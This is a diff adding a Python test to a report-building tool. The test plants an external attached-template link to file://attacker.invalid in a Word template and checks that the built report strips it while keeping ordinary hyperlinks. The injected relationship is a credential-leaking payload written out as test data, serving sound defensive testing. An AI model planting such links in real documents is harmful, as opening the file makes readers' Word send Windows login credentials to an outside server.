@@ -947,3 +947,45 @@ def test_a_year_on_the_command_line_is_held_to_the_years_a_workbook_may_name(
     text = assert_clean(result, fragment)
     assert result.exit_code == 2 and "integer" not in text, text
     assert not (tmp_path / "ny.xlsx").exists() and files_in(tmp_path / "ut") == []
+
+
+@pytest.mark.parametrize("part, element", [
+    # Word fetches an attached template and a linked picture when the report is opened.
+    ("word/settings.xml", '<w:attachedTemplate r:id="rIdHostile"/>'),
+    ("word/document.xml", '<w:p><w:r><w:t>länk</w:t></w:r></w:p>')])
+def test_a_template_link_word_would_fetch_never_reaches_the_report(tmp_path, part, element):
+    """In a published report a \\\\server\\share link would make every reader's Word offer
+    its Windows login to that server; the template's hyperlinks stay."""
+    folder = tmp_path / "in"
+    folder.mkdir()
+    source = make_corpus.write_base(folder)
+    template = _template(folder)
+    rels = part.replace("word/", "word/_rels/") + ".rels"
+    with zipfile.ZipFile(template) as archive:
+        has_rels = rels in archive.namelist()
+    link = (b'<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/attachedTemplate" '
+            b'Target="file://attacker.invalid/share/mall.dotx" TargetMode="External"/>'
+            b'<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/'
+            b'2006/relationships/hyperlink" Target="https://kommun.invalid/" '
+            b'TargetMode="External"/>')
+    if has_rels:
+        make_corpus.rewrite_member(template, rels, lambda data: data.replace(
+            b"</Relationships>", link + b"</Relationships>"))
+    else:
+        with zipfile.ZipFile(template, "a") as archive:
+            archive.writestr(rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
+                             b'xmlns="http://schemas.openxmlformats.org/package/2006/'
+                             b'relationships">' + link + b"</Relationships>")
+    tag = "</w:settings>" if part.endswith("settings.xml") else "</w:body>"
+    make_corpus.rewrite_member(template, part, lambda data: data.replace(
+        tag.encode(), element.encode() + tag.encode(), 1))
+    out = tmp_path / "ut"
+    result = run("build", source, "--mall", template, "--bara", "docx", "--out", out)
+    assert_clean(result)
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(next(out.glob("*.docx"))) as archive:
+        everything = b"".join(archive.read(name) for name in archive.namelist())
+    assert b"attacker.invalid" not in everything and b"rIdHostile" not in everything
+    if part == "word/document.xml":
+        assert b"https://kommun.invalid/" in everything  # a hyperlink waits for a click
